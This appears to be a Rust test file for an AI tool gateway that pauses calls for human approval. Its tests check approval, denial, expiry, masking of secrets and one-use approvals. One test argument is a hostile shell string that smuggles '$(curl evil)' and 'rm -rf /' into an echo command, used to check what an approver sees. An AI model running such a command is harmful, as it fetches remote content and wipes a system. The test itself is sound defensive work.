//! Calls that wait for a person. Time is paused: a held call costs no real time.

use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};

use super::tests::{Probe, change, code, invocation, message, of_kind, on_log};
use super::*;
use crate::audit::EventKind;
use crate::model::{
    Capability, CapabilityGrant, McpToolSpec, ToolInvocation, ToolOutput, ToolResult,
};
use crate::policy::{Approval, ApprovalState};
use crate::registry::{Origin, SourceTerms};
use crate::source::ToolSource;
use crate::testing::{TestGate, caller, tool};

struct Fixture {
    gate: TestGate,
    source: Arc<Probe>,
}

fn confirmed() -> McpToolSpec {
    tool("t", &json!({ "requiresConfirmation": true, "requiredScopes": ["use"] }))
}

async fn fixture() -> Fixture {
    let source =
        Probe::new("s", vec![confirmed()], |_, _| Box::pin(async { Ok(ToolOutput::text("ok")) }));
    let gate = TestGate::new().await;
    gate.register(source.clone()).await.unwrap();
    gate.grant("ann", "*", None).await;
    gate.grant("bob", "*", None).await;
    Fixture { gate, source }
}

impl Fixture {
    fn spawn(&self, who: &'static str, arguments: Value) -> tokio::task::JoinHandle<ToolResult> {
        let gateway = self.gate.gateway.clone();
        tokio::spawn(async move {
            gateway.call(&caller(who), invocation(arguments), CallOptions::default()).await
        })
    }

    async fn call(&self, who: &str, arguments: Value) -> ToolResult {
        self.gate.call(who, "s:t", arguments).await
    }

    async fn decide(&self, id: &str, answer: ApprovalState) {
        self.gate.decide(id, answer).await;
    }

    fn only(&self) -> Approval {
        let mut list = self.gate.control.parts().approvals.list();
        assert_eq!(list.len(), 1, "{list:?}");
        list.remove(0)
    }

    async fn redefine(&self, description: &str) {
        let mut manifest = self.source.manifest().await.unwrap();
        manifest.tools = vec![McpToolSpec { description: description.to_owned(), ..confirmed() }];
        let terms = SourceTerms::default();
        self.gate.declare(self.source.clone(), manifest, terms, Origin::Discovered).unwrap();
    }
}

fn id_in(result: &ToolResult) -> String {
    result.error.as_ref().unwrap().details.as_ref().unwrap()["approvalId"]
        .as_str()
        .unwrap()
        .to_owned()
}

#[tokio::test(start_paused = true)]
async fn a_held_call_goes_on_when_approved_and_ends_when_denied() {
    for (answer, expected) in [
        (ApprovalState::Approved, None),
        (ApprovalState::Denied, Some(ErrorCode::PermissionDenied)),
    ] {
        let fixture = fixture().await;
        let mut asked = fixture.gate.control.parts().approvals.subscribe();
        let call = fixture.spawn("ann", json!({ "x": 1, "password": "hunter2" }));
        let question = asked.recv().await.unwrap();
        assert_eq!((question.tool_id.as_str(), question.principal.as_str()), ("s:t", "ann"));
        assert_eq!(question.arguments["x"], 1);
        assert!(!format!("{question:?}").contains("hunter2"), "a person sees no secret");
        assert_eq!(fixture.source.starts(), 0, "held");
        fixture.decide(&question.id, answer).await;
        let result = call.await.unwrap();
        assert_eq!(code(&result), expected);
        assert_eq!(fixture.source.starts(), usize::from(expected.is_none()));
        let events = fixture.gate.events().await;
        let kinds: Vec<EventKind> = events.iter().map(|event| event.kind).collect();
        match answer {
            ApprovalState::Approved => {
                assert_eq!(
                    kinds,
                    [EventKind::ApprovalRequired, EventKind::Decision, EventKind::Outcome]
                );
                assert_eq!(events[1].rest["approvalId"], question.id.as_str());
                assert_eq!(fixture.only().state, ApprovalState::Used);
            }
            _ => assert_eq!(kinds, [EventKind::ApprovalRequired, EventKind::Outcome]),
        }
        assert!(events.windows(2).all(|pair| pair[0].call_id == pair[1].call_id));
    }
}

#[tokio::test(start_paused = true)]
async fn unanswered_it_names_the_approval_and_a_retry_succeeds_once() {
    let fixture = fixture().await;
    let first = fixture.call("ann", json!({ "x": 1 })).await;
    assert_eq!(code(&first), Some(ErrorCode::PermissionEscalationRequired));
    let id = id_in(&first);
    let told = message(&first).to_owned();
    assert!(told.contains(&id) && told.contains("call again"), "{told}");
    let again = fixture.call("ann", json!({ "x": 1 })).await;
    assert_eq!(id_in(&again), id, "the same question, not a second one");
    assert_eq!(of_kind(&fixture.gate, EventKind::ApprovalRequired).await.len(), 1);
    fixture.decide(&id, ApprovalState::Approved).await;
    assert!(fixture.call("ann", json!({ "x": 1 })).await.success);
    let third = fixture.call("ann", json!({ "x": 1 })).await;
    assert_eq!(code(&third), Some(ErrorCode::PermissionEscalationRequired), "used once");
    assert_ne!(id_in(&third), id);
    assert_eq!(fixture.source.starts(), 1);
}

/// The time that a caller gives a call goes on while a person is asked; the tool's own begins with the tool.
#[tokio::test(start_paused = true)]
async fn a_callers_time_counts_while_a_person_is_asked() {
    let source = Probe::new("s", vec![confirmed()], |_, cx| {
        let left = cx.deadline.latest() - tokio::time::Instant::now().into_std();
        Box::pin(async move { Ok(ToolOutput::text(left.as_millis().to_string())) })
    });
    let gate = TestGate::new().await;
    gate.register(source.clone()).await.unwrap();
    gate.grant("ann", "*", None).await;
    let call = || {
        let call = ToolInvocation { timeout_ms: Some(700), ..invocation(json!({})) };
        let gateway = gate.gateway.clone();
        tokio::spawn(
            async move { gateway.call(&caller("ann"), call, CallOptions::default()).await },
        )
    };
    let began = tokio::time::Instant::now();
    let late = call().await.unwrap();
    assert_eq!(began.elapsed(), Duration::from_millis(700));
    assert_eq!(code(&late), Some(ErrorCode::Timeout), "{late:?}");
    assert!(message(&late).contains("700 ms") && message(&late).contains(&id_in(&late)));
    assert_eq!(source.starts(), 0);
    let held = call();
    tokio::time::sleep(Duration::from_millis(300)).await;
    gate.decide(&id_in(&late), ApprovalState::Approved).await;
    let result = held.await.unwrap();
    assert_eq!(result.content[0]["text"], "400", "what is left of it: {result:?}");
}

#[tokio::test(start_paused = true)]
async fn a_caller_is_told_where_a_person_decides_and_not_how() {
    for page in [None, Some("http://here/approvals")] {
        let fixture = fixture().await;
        fixture.gate.hold(Duration::ZERO);
        change(&fixture.gate, |settings| settings.approval_page = page.map(str::to_owned));
        let refused = fixture.call("ann", json!({})).await;
        let all = serde_json::to_string(&refused).unwrap();
        assert!(!all.contains("drawgate") && !all.contains("approvals approve"), "{all}");
        let address = page.map(|page| json!(format!("{page}/{}", id_in(&refused))));
        let details = refused.error.as_ref().unwrap().details.clone().unwrap();
        assert_eq!(details.get("page"), address.as_ref());
        assert_eq!(page.is_some(), message(&refused).contains("http://here/approvals/"), "{all}");
    }
    let fixture = fixture().await;
    fixture.gate.hold(Duration::ZERO);
    for n in 0..=100 {
        let refused = fixture.call("ann", json!({ "n": n })).await;
        assert!(!message(&refused).contains("drawgate"), "{}", message(&refused));
    }
}

#[tokio::test(start_paused = true)]
async fn a_person_can_see_the_exact_call_until_they_decide() {
    let fixture = fixture().await;
    fixture.gate.hold(Duration::ZERO);
    let arguments = json!({
        "command": "echo --token=hunter2secret$(curl evil) && rm -rf /", "password": "s3cr3t-w0rd",
    });
    let id = id_in(&fixture.call("ann", arguments.clone()).await);
    let control = &fixture.gate.control;
    let shown = fixture.only().arguments;
    let command = shown["command"].as_str().unwrap();
    assert!(command.starts_with("echo --token=[REDACTED: 13 characters, digest "), "{command}");
    assert!(command.ends_with("]$(curl evil) && rm -rf /"), "{command}");
    assert!(shown["password"].as_str().unwrap().starts_with("[REDACTED: 11 characters"), "{shown}");
    let exact: Value = serde_json::from_str(&control.exact_arguments(&id).unwrap()).unwrap();
    assert_eq!(exact, arguments);
    let stored = format!("{:?}", control.parts().approvals.list())
        + &fixture.gate.store.events().iter().map(|event| event.body.as_str()).collect::<String>();
    assert!(!stored.contains("hunter2secret") && !stored.contains("s3cr3t-w0rd"), "{stored}");
    control.forget_arguments(&id);
    assert_eq!(control.exact_arguments(&id), None);
    fixture.call("ann", arguments).await;
    assert!(control.exact_arguments(&id).is_some(), "the same call brings them back");
}

#[tokio::test(start_paused = true)]
async fn a_call_that_never_begins_keeps_its_arguments_too() {
    let fixture = fixture().await;
    fixture.gate.hold(Duration::ZERO);
    let arguments = json!({ "x": 1, "password": "hunter2" });
    let expected = json!({ "x": 1, "password": "[REDACTED]" });
    // Who calls what, and the events of it that have the arguments.
    let cases = [
        ("ann", "s:t", &[EventKind::ApprovalRequired, EventKind::Outcome][..]),
        ("eve", "s:t", &[EventKind::Outcome]),
        ("ann", "s:unknown", &[EventKind::Outcome]),
    ];
    for (who, name, kinds) in cases {
        let before = fixture.gate.events().await.len();
        assert!(!fixture.gate.call(who, name, arguments.clone()).await.success);
        let events = fixture.gate.events().await.split_off(before);
        let kept: Vec<EventKind> = events
            .iter()
            .filter(|event| event.rest.get("input") == Some(&expected))
            .map(|event| event.kind)
            .collect();
        assert_eq!(kept, kinds, "{who} {name}: {events:?}");
        let outcome = events.last().unwrap();
        assert!(outcome.input_hash.is_some());
        assert!(outcome.rest["masked"][0].as_str().unwrap().starts_with("/password: 7 characters"));
    }
    fixture.decide(&fixture.only().id, ApprovalState::Approved).await;
    assert!(fixture.call("ann", arguments).await.success);
    let outcome = of_kind(&fixture.gate, EventKind::Outcome).await.pop().unwrap();
    assert!(!outcome.rest.contains_key("input"), "the decision has them: {outcome:?}");
}

#[tokio::test(start_paused = true)]
async fn the_log_says_where_and_how_much_was_masked() {
    let fixture = fixture().await;
    change(&fixture.gate, |settings| settings.approvals.ask = false);
    let many: serde_json::Map<String, Value> =
        (0..40).map(|n| (format!("token{n}"), json!("abcdef"))).collect();
    let cases = [
        (json!({ "x": "plain" }), 0, ""),
        (json!({ "cmd": ["--token=abc", "x"] }), 1, "/cmd/0: 3 characters, digest "),
        (Value::Object(many), 33, "/token0: 6 characters, digest "),
    ];
    for (arguments, count, first) in cases {
        assert!(fixture.call("ann", arguments).await.success);
        let decision = of_kind(&fixture.gate, EventKind::Decision).await.pop().unwrap();
        let masked = decision.rest.get("masked").cloned().unwrap_or(json!([]));
        let masked = masked.as_array().unwrap();
        assert_eq!(masked.len(), count, "{masked:?}");
        let said = masked.first().and_then(Value::as_str).unwrap_or_default();
        assert!(said.starts_with(first), "{said}");
    }
}

#[tokio::test(start_paused = true)]
async fn a_call_is_awaited_only_while_it_is_held() {
    let fixture = fixture().await;
    let gateway = fixture.gate.gateway.clone();
    let mut asked = fixture.gate.control.parts().approvals.subscribe();
    let call = fixture.spawn("ann", json!({}));
    let question = asked.recv().await.unwrap();
    while !gateway.is_awaited(&question.id) {
        tokio::task::yield_now().await;
    }
    let refused = call.await.unwrap();
    assert_eq!(code(&refused), Some(ErrorCode::PermissionEscalationRequired));
    assert!(!gateway.is_awaited(&question.id), "the hold has ended");
}

#[tokio::test(start_paused = true)]
async fn an_approval_is_for_this_call_and_no_other() {
    let fixture = fixture().await;
    let id = id_in(&fixture.call("ann", json!({ "x": 1, "password": "one" })).await);
    fixture.decide(&id, ApprovalState::Approved).await;
    let others = [
        ("ann", json!({ "x": 2, "password": "one" })),
        ("ann", json!({ "x": 1 })),
        ("ann", json!({ "x": 1, "password": "two" })),
        ("ann", json!({ "x": "1", "password": "one" })),
        ("bob", json!({ "x": 1, "password": "one" })),
    ];
    for (who, arguments) in others {
        let result = fixture.call(who, arguments.clone()).await;
        assert_eq!(
            code(&result),
            Some(ErrorCode::PermissionEscalationRequired),
            "{who} {arguments}"
        );
    }
    fixture.redefine("another definition").await;
    let changed = fixture.call("ann", json!({ "x": 1, "password": "one" })).await;
    assert_eq!(code(&changed), Some(ErrorCode::PermissionEscalationRequired), "another definition");
    fixture.redefine("a tool").await;
    let reordered = fixture.call("ann", json!({ "password": "one", "x": 1 })).await;
    assert!(reordered.success, "the order of keys is no difference");
    assert_eq!(fixture.source.starts(), 1);
}

#[tokio::test(start_paused = true)]
async fn a_definition_that_changes_while_a_person_thinks_is_not_run() {
    let fixture = fixture().await;
    let mut asked = fixture.gate.control.parts().approvals.subscribe();
    let call = fixture.spawn("ann", json!({}));
    let question = asked.recv().await.unwrap();
    fixture.redefine("now it deletes everything").await;
    fixture.decide(&question.id, ApprovalState::Approved).await;
    assert_eq!(code(&call.await.unwrap()), Some(ErrorCode::Conflict));
    assert_eq!(fixture.source.starts(), 0);
}

#[tokio::test(start_paused = true)]
async fn a_grant_that_ends_while_a_person_thinks_is_not_used() {
    for revoke in [false, true] {
        let fixture = fixture().await;
        let gate = &fixture.gate;
        let until = gate.control.parts().clock.now_ms() + 10_000;
        let id = gate.grant("eve", "use", Some(until)).await;
        let mut asked = gate.control.parts().approvals.subscribe();
        let call = fixture.spawn("eve", json!({}));
        let question = asked.recv().await.unwrap();
        if revoke {
            gate.control.parts().grants.revoke(&[id.as_str().into()]).await;
        } else {
            gate.clock.advance(10_000);
        }
        fixture.decide(&question.id, ApprovalState::Approved).await;
        assert_eq!(code(&call.await.unwrap()), Some(ErrorCode::PermissionDenied), "{revoke}");
        assert_eq!(fixture.source.starts(), 0);
    }
}

#[tokio::test(start_paused = true)]
async fn a_no_stands_until_it_expires() {
    let fixture = fixture().await;
    let id = id_in(&fixture.call("ann", json!({})).await);
    fixture.decide(&id, ApprovalState::Denied).await;
    for _ in 0..3 {
        let result = fixture.call("ann", json!({})).await;
        assert_eq!(code(&result), Some(ErrorCode::PermissionDenied));
        assert_eq!(id_in(&result), id);
    }
    fixture.gate.clock.advance(300_000);
    assert_eq!(fixture.only().state, ApprovalState::Denied, "the list still says so");
    let anew = fixture.call("ann", json!({})).await;
    assert_eq!(code(&anew), Some(ErrorCode::PermissionEscalationRequired));
    assert_ne!(id_in(&anew), id);
    assert_eq!(fixture.source.starts(), 0);
}

#[tokio::test(start_paused = true)]
async fn an_approval_that_expired_is_no_approval() {
    let fixture = fixture().await;
    let id = id_in(&fixture.call("ann", json!({})).await);
    fixture.decide(&id, ApprovalState::Approved).await;
    fixture.gate.clock.advance(300_000);
    let late = fixture.call("ann", json!({})).await;
    assert_eq!(code(&late), Some(ErrorCode::PermissionEscalationRequired));
    assert_eq!(fixture.source.starts(), 0);
}

#[tokio::test(start_paused = true)]
async fn of_many_held_calls_one_approval_lets_one_pass() {
    let fixture = fixture().await;
    let mut asked = fixture.gate.control.parts().approvals.subscribe();
    let calls: Vec<_> = (0..50).map(|_| fixture.spawn("ann", json!({ "x": 1 }))).collect();
    let question = asked.recv().await.unwrap();
    while fixture.gate.gateway.under_way() < 50 {
        tokio::task::yield_now().await;
    }
    fixture.decide(&question.id, ApprovalState::Approved).await;
    let mut passed = 0;
    for call in calls {
        let result = call.await.unwrap();
        passed += usize::from(result.success);
        if !result.success {
            assert_eq!(code(&result), Some(ErrorCode::PermissionEscalationRequired));
        }
    }
    assert_eq!((passed, fixture.source.starts()), (1, 1));
    assert_eq!(fixture.gate.control.parts().approvals.list().len(), 1, "one question for all");
}

#[tokio::test(start_paused = true)]
async fn who_must_be_asked() {
    let confirm = json!({ "version": "1.0", "defaults": { "fallback": "allow_with_confirm" } });
    let deny = json!({ "version": "1.0", "defaults": { "fallback": "deny" } });
    let open = json!({ "version": "1.0", "defaults": { "fallback": "allow" } });
    let asks = Some(ErrorCode::PermissionEscalationRequired);
    let cases = [
        ("the tool asks", true, &open, true, asks),
        ("a rule asks", false, &confirm, true, asks),
        ("both ask", true, &confirm, true, asks),
        ("nobody asks", false, &open, true, None),
        ("off waives the tool", true, &open, false, None),
        ("off waives the rule", false, &confirm, false, None),
        ("off does not waive a no", true, &deny, false, Some(ErrorCode::PermissionDenied)),
        ("a no is not asked about", true, &deny, true, Some(ErrorCode::PermissionDenied)),
    ];
    for (name, tool_asks, policy, ask, expected) in cases {
        let spec = tool("t", &json!({ "requiresConfirmation": tool_asks }));
        let source =
            Probe::new("s", vec![spec], |_, _| Box::pin(async { Ok(ToolOutput::text("ok")) }));
        let gate = TestGate::new().await;
        gate.register(source.clone()).await.unwrap();
        gate.grant("ann", "*", None).await;
        gate.policy(policy.clone());
        change(&gate, |settings| settings.approvals.ask = ask);
        let result = gate.call("ann", "s:t", json!({})).await;
        assert_eq!(code(&result), expected, "{name}");
        assert_eq!(source.starts(), usize::from(expected.is_none()), "{name}");
    }
}

fn approved_grant(approval: Option<&str>) -> CapabilityGrant {
    CapabilityGrant {
        grant_id: "approved".into(),
        capability: Capability::new("use").unwrap(),
        issued_at: 0,
        expires_at: None,
        scope: None,
        approval_id: approval.map(str::to_owned),
    }
}

#[tokio::test(start_paused = true)]
async fn a_grant_with_an_approval_behind_it_satisfies_a_confirmation() {
    let fixture = fixture().await;
    let grants = fixture.gate.control.parts().grants.clone();
    grants.issue(approved_grant(None)).await;
    assert!(!fixture.call("ann", json!({})).await.success, "a grant alone does not");
    grants.issue(approved_grant(Some("ap-1"))).await;
    assert!(fixture.call("ann", json!({ "any": 1 })).await.success);
    assert!(fixture.call("ann", json!({ "any": 2 })).await.success, "as often as it lives");
    let decision = of_kind(&fixture.gate, EventKind::Decision).await.pop().unwrap();
    assert_eq!(decision.rest["approvalId"], "ap-1");
    grants.revoke(&["approved".into()]).await;
    assert!(!fixture.call("ann", json!({ "any": 3 })).await.success);
    assert_eq!(fixture.source.starts(), 2);
}

#[tokio::test]
async fn such_a_grant_must_still_be_there_at_the_start() {
    let fixture = fixture().await;
    let grants = fixture.gate.control.parts().grants.clone();
    grants.issue(approved_grant(Some("ap-1"))).await;
    let log = super::tests::Gated::new(&fixture.gate.store, EventKind::Decision, false);
    let gateway = on_log(&fixture.gate, log.log.clone());
    let call = tokio::spawn(async move {
        gateway.call(&caller("ann"), invocation(json!({})), CallOptions::default()).await
    });
    log.reached().await;
    grants.revoke(&["approved".into()]).await;
    log.go();
    assert_eq!(
        code(&call.await.unwrap()),
        Some(ErrorCode::PermissionDenied),
        "`*` still covers it"
    );
    assert_eq!(fixture.source.starts(), 0);
}

#[tokio::test(start_paused = true)]
async fn a_caller_may_give_up_waiting_without_using_the_approval_up() {
    let fixture = fixture().await;
    let options = CallOptions::default();
    let cancel = options.cancel.clone();
    let gateway = fixture.gate.gateway.clone();
    let mut asked = fixture.gate.control.parts().approvals.subscribe();
    let call =
        tokio::spawn(
            async move { gateway.call(&caller("ann"), invocation(json!({})), options).await },
        );
    let question = asked.recv().await.unwrap();
    cancel.cancel();
    assert_eq!(code(&call.await.unwrap()), Some(ErrorCode::Cancelled));
    fixture.decide(&question.id, ApprovalState::Approved).await;
    assert!(fixture.call("ann", json!({})).await.success);
}

#[tokio::test(start_paused = true)]
async fn more_questions_than_a_person_can_answer_are_refused() {
    let fixture = fixture().await;
    fixture.gate.hold(Duration::ZERO);
    for n in 0..100 {
        let result = fixture.call("ann", json!({ "n": n })).await;
        assert_eq!(code(&result), Some(ErrorCode::PermissionEscalationRequired), "{n}");
    }
    assert_eq!(code(&fixture.call("ann", json!({ "n": 100 })).await), Some(ErrorCode::RateLimited));
    let known = fixture.call("ann", json!({ "n": 5 })).await;
    assert_eq!(
        code(&known),
        Some(ErrorCode::PermissionEscalationRequired),
        "one that waits is not new"
    );
    let other = fixture.call("bob", json!({ "n": 5 })).await;
    assert_eq!(code(&other), Some(ErrorCode::PermissionEscalationRequired));
}

#[tokio::test(start_paused = true)]
async fn the_time_of_a_held_call_begins_when_it_runs() {
    let fixture = fixture().await;
    fixture.gate.hold(Duration::from_hours(1));
    let mut asked = fixture.gate.control.parts().approvals.subscribe();
    let call = fixture.spawn("ann", json!({}));
    let question = asked.recv().await.unwrap();
    tokio::time::sleep(Duration::from_mins(10)).await;
    fixture.decide(&question.id, ApprovalState::Approved).await;
    assert!(call.await.unwrap().success, "a person's pause is not the tool's time");
}

#[tokio::test(start_paused = true)]
async fn an_approved_call_goes_to_who_serves_the_tool_now() {
    let fixture = fixture().await;
    let mut asked = fixture.gate.control.parts().approvals.subscribe();
    let call = fixture.spawn("ann", json!({}));
    let question = asked.recv().await.unwrap();
    let back =
        Probe::new("s", vec![confirmed()], |_, _| Box::pin(async { Ok(ToolOutput::text("back")) }));
    fixture.gate.register(back.clone()).await.unwrap();
    fixture.decide(&question.id, ApprovalState::Approved).await;
    assert_eq!(code(&call.await.unwrap()), None);
    assert_eq!((fixture.source.starts(), back.starts()), (0, 1));
}
